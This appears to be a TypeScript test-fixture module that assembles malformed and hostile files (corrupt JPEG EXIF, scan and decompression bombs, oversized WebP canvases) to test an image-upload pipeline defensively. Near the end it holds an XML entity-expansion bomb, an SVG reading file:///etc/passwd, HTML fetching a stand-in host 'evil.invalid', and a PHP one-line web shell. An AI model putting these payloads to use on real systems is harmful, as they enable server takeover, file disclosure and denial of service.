/** What hostile images are put together from: segments of JPEG, chunks of PNG and WebP, and files that are no images. */
import { crc32, createDeflate, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import type { Random } from './forgeries.ts';

/** Stands in every place of a file that is not pixels. */
export const CANARY = 'canary-8f3ac1d2';

export function int(random: Random, from: number, to: number): number {
  return from + Math.floor(random() * (to - from + 1));
}

export function bytes(random: Random, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
}

/** Pixels of a seed: noise, so that a cut or a flipped bit falls into data. */
export function noise(
  random: Random,
  width = int(random, 96, 160),
  height = int(random, 96, 160),
  channels: 3 | 4 = 3,
) {
  return sharp(bytes(random, width * height * channels), { raw: { width, height, channels } });
}

export const tagged = {
  IFD0: { Artist: CANARY, Copyright: CANARY, ImageDescription: `<script>${CANARY}</script>` },
  IFD3: { GPSLatitude: '51/1 30/1 0/1', GPSLongitude: '0/1 7/1 0/1', GPSMapDatum: CANARY },
};

// --- JPEG: markers and segments -----------------------------------------------------------------------------------------

export function segment(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([head, data]);
}

export function afterSoi(jpeg: Buffer, ...parts: Buffer[]): Buffer {
  return Buffer.concat([jpeg.subarray(0, 2), ...parts, jpeg.subarray(2)]);
}

/** Where a frame header begins (SOF0 to SOF2). */
function frameHeader(jpeg: Buffer): number {
  for (let at = 2; at + 4 < jpeg.length; at += 2 + jpeg.readUInt16BE(at + 2)) {
    const marker = jpeg[at + 1] ?? 0;
    if (marker >= 0xc0 && marker <= 0xc2) return at;
    if (marker === 0xda) break;
  }
  throw new Error('a JPEG without a frame header');
}

export function withFrameSize(jpeg: Buffer, width: number, height: number): Buffer {
  const changed = Buffer.from(jpeg);
  const at = frameHeader(changed);
  changed.writeUInt16BE(height, at + 5);
  changed.writeUInt16BE(width, at + 7);
  return changed;
}

/** EXIF whose directory names itself as the next one, and whose entries point anywhere. */
export function selfReferringExif(random: Random): Buffer {
  const entries = 40;
  const tiff = Buffer.alloc(8 + 2 + entries * 12 + 4);
  tiff.write('II*\0', 'latin1');
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(entries, 8);
  for (let index = 0; index < entries; index += 1) {
    const at = 10 + index * 12;
    tiff.writeUInt16LE([0x8769, 0x8825, 0x010e, 0x0112][index % 4] ?? 0, at);
    tiff.writeUInt16LE(index % 4 === 2 ? 2 : 4, at + 2);
    tiff.writeUInt32LE(index % 4 === 2 ? 0xffff_fff0 : 1, at + 4);
    tiff.writeUInt32LE(index % 4 < 2 ? 8 : int(random, 0, 0x7fff_ffff), at + 8);
  }
  tiff.writeUInt32LE(8, 10 + entries * 12);
  return segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]));
}

export const SMALL = { chromaSubsampling: '4:4:4' } as const;
export const jpeg = (random: Random) => noise(random).jpeg(SMALL).toBuffer();

/** One of its scans many times over: little to send, much to decode. */
export async function scanBomb(random: Random, scans: number): Promise<Buffer> {
  const picture = sharp({
    create: { width: 2000, height: 2000, channels: 3, background: { r: int(random, 0, 255), g: 9, b: 9 } },
  });
  const file = await picture.jpeg({ progressive: true, ...SMALL }).toBuffer();
  const last = file.lastIndexOf(Buffer.from([0xff, 0xda]));
  const scan = file.subarray(last, file.length - 2);
  return Buffer.concat([
    file.subarray(0, file.length - 2),
    ...Array.from({ length: scans }, () => scan),
    file.subarray(-2),
  ]);
}

// --- PNG: chunks --------------------------------------------------------------------------------------------------------

export const PNG_HEAD = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');

export function chunk(name: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length, 0);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

export function header(width: number, height: number, depth: number, colour: number, interlaced = false): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width >>> 0, 0);
  data.writeUInt32BE(height >>> 0, 4);
  data.set([depth, colour, 0, 0, interlaced ? 1 : 0], 8);
  return chunk('IHDR', data);
}

const END = chunk('IEND', Buffer.alloc(0));
export const png = (...chunks: Buffer[]) => Buffer.concat([PNG_HEAD, ...chunks, END]);

/** Behind the header of a good PNG. */
export async function pngWith(random: Random, ...chunks: Buffer[]): Promise<Buffer> {
  const file = await noise(random).png().toBuffer();
  return Buffer.concat([file.subarray(0, 33), ...chunks, file.subarray(33)]);
}

/** So many zero bytes as a zlib stream, made without holding them. */
export async function zeros(length: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const piece = Buffer.alloc(1024 * 1024);
  const out: Buffer[] = [];
  deflate.on('data', (part: Buffer) => out.push(part));
  const ended = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  for (let left = length; left > 0; left -= piece.length) {
    const part = piece.subarray(0, Math.min(left, piece.length));
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat(out);
}

/** A black picture of one bit per pixel: 1,000 times smaller than what it becomes. */
export function black(width: number, height: number): Buffer {
  return png(
    header(width, height, 1, 0),
    chunk('IDAT', deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height))),
  );
}

/** Bytes of an Adam7 picture: each of the seven passes has rows of its own, each with a filter byte. */
export function adam7Bytes(width: number, height: number, bytesPerPixel: number): number {
  const passes = [
    [0, 0, 8, 8],
    [4, 0, 8, 8],
    [0, 4, 4, 8],
    [2, 0, 4, 4],
    [0, 2, 2, 4],
    [1, 0, 2, 2],
    [0, 1, 1, 2],
  ] as const;
  return passes.reduce((sum, [x, y, dx, dy]) => {
    const [columns, rows] = [Math.ceil((width - x) / dx), Math.ceil((height - y) / dy)];
    return columns > 0 && rows > 0 ? sum + rows * (1 + columns * bytesPerPixel) : sum;
  }, 0);
}

// --- WebP ---------------------------------------------------------------------------------------------------------------

function riff(...chunks: [name: string, data: Buffer][]): Buffer {
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    ...chunks.map(([name, data]) => {
      const head = Buffer.alloc(8);
      head.write(name, 'latin1');
      head.writeUInt32LE(data.length, 4);
      return Buffer.concat([head, data, Buffer.alloc(data.length % 2)]);
    }),
  ]);
  const head = Buffer.alloc(8);
  head.write('RIFF', 'latin1');
  head.writeUInt32LE(body.length, 4);
  return Buffer.concat([head, body]);
}

/** A canvas of the largest size that the format can say, with nothing on it. */
export function emptyCanvas(): Buffer {
  return riff(['VP8X', Buffer.from([0x02, 0, 0, 0, 0xff, 0x3f, 0, 0xff, 0x3f, 0])], ['ANIM', Buffer.alloc(6)]);
}

export async function animated(random: Random, frames: number): Promise<Buffer> {
  const pages = Array.from({ length: frames }, () => noise(random, 128, 96).png().toBuffer());
  return sharp(await Promise.all(pages), { join: { animated: true } })
    .webp({ loop: 0, delay: 20 })
    .toBuffer();
}

// --- everything else ----------------------------------------------------------------------------------------------------

export const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="500" height="500" onload="${CANARY}()"><script>${CANARY}()</script><image href="file:///etc/passwd"/></svg>`;
export const SVG_BOMB = `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "${'x'.repeat(50)}">${[...'bcdefghi'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefgh'[index]};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>`;
export const HTML = `<!doctype html><html><body><script>fetch('https://evil.invalid/${CANARY}')</script></body></html>`;
export const PHP = `<?php system($_GET['${CANARY}']); ?>`;
export const box = (type: string, brand: string) =>
  Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from(`${type}${brand}\0\0\0\0${brand}mif1`, 'latin1'),
    Buffer.alloc(500),
  ]);
export const zip = () =>
  Buffer.concat([
    Buffer.from('PK\x03\x04', 'latin1'),
    Buffer.alloc(26),
    Buffer.from(CANARY),
    Buffer.from('PK\x05\x06', 'latin1'),
    Buffer.alloc(18),
  ]);
